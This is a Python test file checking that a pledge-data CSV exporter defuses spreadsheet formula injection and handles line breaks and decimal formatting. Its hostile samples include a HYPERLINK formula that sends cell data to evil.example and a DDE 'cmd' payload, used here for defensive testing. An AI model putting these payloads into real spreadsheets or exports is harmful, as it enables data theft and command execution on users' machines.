"""CSV export of feed-supplied text: no cell a spreadsheet would evaluate (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from bot.pledge_export import pledges_to_csv, pledges_to_json


def _row(**fields) -> dict:
    base = {"id": 1, "donor": "FR", "reported_at": "2026-11-01T10:00:00+00:00", "category": "artillery",
            "item": "CAESAR", "system": "CAESAR", "quantity": 6, "value": None, "currency": None,
            "status": "pledged", "evidence": "France will send six CAESAR guns.", "story_title": "France sends guns",
            "sources": [{"url": "https://news.example/a"}]}
    return dict(base, **fields)


def test_cells_a_spreadsheet_would_evaluate_are_quoted_as_text():
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"source")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ]
    rows = [_row(id=n, story_title=text, evidence=text, item=text) for n, text in enumerate(hostile)]
    parsed = list(csv.DictReader(io.StringIO(pledges_to_csv(rows))))
    for row, text in zip(parsed, hostile):
        for column in ("Story Title", "Explanation", "Item"):
            assert row[column] == "'" + text.replace("\r", "\n")
            assert row[column][0] not in "=+-@\t\r"


def test_a_carriage_return_inside_a_cell_does_not_split_the_row():
    parsed = list(csv.DictReader(io.StringIO(pledges_to_csv([_row(evidence="one\rtwo"), _row(id=2)]))))
    assert [r["ID"] for r in parsed] == ["1", "2"] and parsed[0]["Explanation"] == "one\ntwo"


def test_ordinary_text_and_numbers_are_unchanged():
    parsed = list(csv.DictReader(io.StringIO(pledges_to_csv([_row(quantity=-3, value=2.5e9)]))))
    assert parsed[0]["Item"] == "CAESAR" and parsed[0]["Story Title"] == "France sends guns"
    assert parsed[0]["Quantity"] == "-3" and parsed[0]["Reported Value"] == "2500000000"


def test_a_whole_sum_is_written_without_a_decimal_point_a_comma_language_misreads():
    # A French or German spreadsheet takes the point for a thousands separator: 2500000000.0
    # was read as 25000000000, or as text. A sum with cents keeps them; JSON keeps its number.
    parsed = list(csv.DictReader(io.StringIO(pledges_to_csv([_row(value=2.5e9), _row(id=2, value=1234.5)]))))
    assert [row["Reported Value"] for row in parsed] == ["2500000000", "1234.5"]
    assert '"Reported Value": 2500000000.0' in pledges_to_json([_row(value=2.5e9)])


def test_json_export_keeps_text_as_written():
    # JSON is not opened by a spreadsheet's formula parser: the text stays exact there.
    assert '"=1+1"' in pledges_to_json([_row(item="=1+1")])
